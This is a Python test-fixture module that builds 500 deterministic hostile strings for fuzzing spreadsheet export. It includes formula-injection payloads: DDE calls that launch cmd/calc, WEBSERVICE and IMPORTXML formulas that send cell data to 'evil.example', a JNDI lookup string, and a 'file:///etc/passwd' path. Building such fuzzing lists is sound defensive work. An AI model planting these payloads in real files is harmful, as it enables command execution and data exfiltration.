"""Five hundred texts that a hostile article can hold, made the same in every run."""

from __future__ import annotations

import random

_STARTS = (
    "",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "#",
    "'",
    '"',
    "'=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
    ";=",
    ",=",
    "\ufeff=",
    "\u200b=",
)
_BODIES = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example","click")', 'WEBSERVICE("https://evil.example/?"&A1)',
    "IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", "'Facts'!A1", "[book.xlsx]Sheet1!A1",
)  # fmt: skip
_WHOLE = (
    "#N/A", "#DIV/0!", "#REF!", "#NAME?", "TRUE", "FALSE", "NULL", "None", "nan", "NaN", "inf", "-inf", "001", "1E5", "1e-7", "0x10", "1,5",
    "1/2", "3-4", "2022-02-07", "07/02/2022", "12:30", "1 Jan", "$5", "5%", "+49 30 1234", "-5", "(5)", "00:00", "1900-02-29", "9" * 400,
    "https://evil.example/", "http://evil.example", "javascript:alert(1)", "file:///etc/passwd", "mailto:a@evil.example", "ftp://evil.example",
    "\\\\evil.example\\share", "data:text/html,<script>", "https://user:pass@evil.example/", "https://evil.example/a b", "www.evil.example",
    "https://[::1", "https://evil.example:99999999/", "HTTPS://EVIL.EXAMPLE", "https://ëvil.example/ü?ö#ß", "https://evil.example/%zz",
    "</t></is></c><c><f>1+1</f></c>", "<b>&amp;</b>", "&#x41;", "]]>", "<!-- -->", "<?xml?>", "<!DOCTYPE x>", "&lol;", "${jndi:ldap://x}",
    "_x0041_", "_x005F_", "_x005F_x0041_", "_x000D_", "a_x0000_b", "_xFFFF_", "_x00G1_", "__x0041__", "x0041_",
    "\x00", "a\x00b", "\x01\x02", "\x07", "\x0b", "\x1b[31m", "\x1f", "\x7f", "\x80", "\x85", "\ud800", "\udfff", "a\ud83d", "\ude00\ud83d",
    "\ufffe", "\uffff", "\ufffd", "\u2028", "\u2029", "\u202e=1+1", "\u200f", "\u200d", "\u00ad", "\u00a0", "a\u0301" * 50, "😀" * 300,
    "\U000e0041", "\U0010ffff", " padded ", "  ", "\t", "\n", "\r", "\r\n", "a\r\nb", "a\rb", "a\nb\n", "\n\n\n", "tab\there", "x" * 255,
    "x" * 256,
    "'", "''", "'''=1", "'text", "\"", '""', '"a","b"', "a,b;c\td", "back\\slash", "\\x00", "\\ud800", "{=1}", "{SUM(A1)}", "[$-409]",
    "@@",
    "Facts", "none", "(empty)", "accept", "ReviewBase!A1", "%s%n", "{0}", "{item}",
    "&A&P&B", "Ω≈ç√", "Т-72", "日本語" * 30, "שלום", "مرحبا",
)  # fmt: skip
COUNT = 500
# Longer than a cell may be, or only so long as escapes.
HUGE = (
    "x" * 32_767, "x" * 32_768, "x" * 40_000, "😀" * 20_000, "=" * 40_000, "\x00" * 9_000, "\ud800" * 7_000, "a\n" * 20_000,
    "_x0041_" * 5_000, " " * 40_000,
)  # fmt: skip


def list_hostile() -> list[str]:
    """Exactly :data:`COUNT` different texts: whole ones, starts before bodies, then mixtures of their characters."""
    texts = [*_WHOLE, *(start + body for body in _BODIES for start in _STARTS)]
    rng = random.Random(11)
    alphabet = "=+-@\t\r\n'\"#<>&_x0041_;,|{}\x00\x0b\ud800\ufffe\u2028\u202e😀Т a1"
    while len(dict.fromkeys(texts)) < COUNT:
        texts.append("".join(rng.choices(alphabet, k=rng.randint(1, 24))))
    return list(dict.fromkeys(texts))[:COUNT]
